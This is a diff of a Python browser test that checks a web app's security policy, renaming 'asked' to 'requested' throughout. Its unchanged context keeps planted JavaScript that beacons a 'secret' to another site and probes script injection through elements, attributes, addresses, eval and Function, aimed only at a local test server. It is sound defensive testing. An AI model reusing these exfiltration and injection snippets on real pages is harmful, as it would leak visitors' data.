@@ -42,8 +42,8 @@ PLANTED = """async (site) => {
         }),
     ];
     navigator.sendBeacon(`${site}/beacon`, "secret");
-    const kept = (way) => Promise.race([way, new Promise((done) => setTimeout(done, 300))]);
-    await Promise.allSettled(ways.map(kept));
+    const answeredOrLate = (way) => Promise.race([way, new Promise((done) => setTimeout(done, 300))]);
+    await Promise.allSettled(ways.map(answeredOrLate));
 }"""
 # Text that is run as a script: as an element, an attribute, an address, by `eval` and by its sister.
 TEXT_AS_SCRIPT = """() => {
@@ -63,13 +63,13 @@ TEXT_AS_SCRIPT = """() => {
 
 
 class Elsewhere(BaseHTTPRequestHandler):
-    """Another site, which notes what it is asked for, and frames what it is told to."""
+    """Another site, which notes what it receives requests for, and frames what a query names."""
 
-    asked: set[str]
+    requested: set[str]
 
     def do_GET(self) -> None:
         path, _mark, framed = self.path.partition("?")
-        self.asked.add(path.lstrip("/"))
+        self.requested.add(path.lstrip("/"))
         self.send_response(200)
         self.send_header("Content-Type", "text/html")
         self.end_headers()
@@ -77,18 +77,18 @@ class Elsewhere(BaseHTTPRequestHandler):
 
     do_POST = do_GET  # noqa: N815
 
-    def log_message(self, *_told: object) -> None:
+    def log_message(self, *_texts: object) -> None:
         pass
 
 
 @pytest.fixture
 def elsewhere() -> Iterator[tuple[str, set[str]]]:
-    """The address of another site, and what it has been asked for."""
-    asked: set[str] = set()
-    site = ThreadingHTTPServer(("127.0.0.1", 0), type("Site", (Elsewhere,), {"asked": asked}))
+    """The address of another site, and what has been requested of it."""
+    requested: set[str] = set()
+    site = ThreadingHTTPServer(("127.0.0.1", 0), type("Site", (Elsewhere,), {"requested": requested}))
     thread = threading.Thread(target=site.serve_forever, daemon=True)
     thread.start()
-    yield f"http://127.0.0.1:{site.server_port}", asked
+    yield f"http://127.0.0.1:{site.server_port}", requested
     site.shutdown()
     site.server_close()
 
@@ -106,21 +106,21 @@ def visitor(browser: Browser) -> Iterator[Page]:
 WAYS = set(re.findall(r"\$\{(?:site|site\.replace\(.*?\))\}/([\w.-]+)", PLANTED))
 
 
-def test_nothing_is_asked_of_another_site_and_no_text_is_run_as_a_script(
+def test_nothing_is_requested_from_another_site_and_no_text_is_run_as_a_script(
     visitor: Page, server: Server, elsewhere: tuple[str, set[str]]
 ) -> None:
-    site, asked = elsewhere
+    site, requested = elsewhere
     # Where no policy forbids it, all of it is done: nothing below fails for another reason.
     visitor.goto(f"{site}/")
     visitor.evaluate(PLANTED, site)
-    eventually(lambda: WAYS - asked, set())
+    eventually(lambda: WAYS - requested, set())
     assert set(visitor.evaluate(TEXT_AS_SCRIPT)) == {"element", "attribute", "address", "eval", "Function"}
     visitor.goto(f"{server('app.py')}/conventions")
     drawn_page(visitor)
-    asked.clear()
+    requested.clear()
     visitor.evaluate(PLANTED, site)
     assert visitor.evaluate(TEXT_AS_SCRIPT) == []
-    assert asked == set()
+    assert requested == set()
 
 
 def test_another_site_does_not_frame_the_app(
@@ -134,7 +134,7 @@ def test_another_site_does_not_frame_the_app(
 def test_a_site_that_the_setting_names_frames_the_app(
     visitor: Page, elsewhere: tuple[str, set[str]], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    site, _asked = elsewhere
+    site, _requested = elsewhere
     monkeypatch.setenv("LAB_FRAME_ANCESTORS", site)
     process, address = start("app.py")
     try:
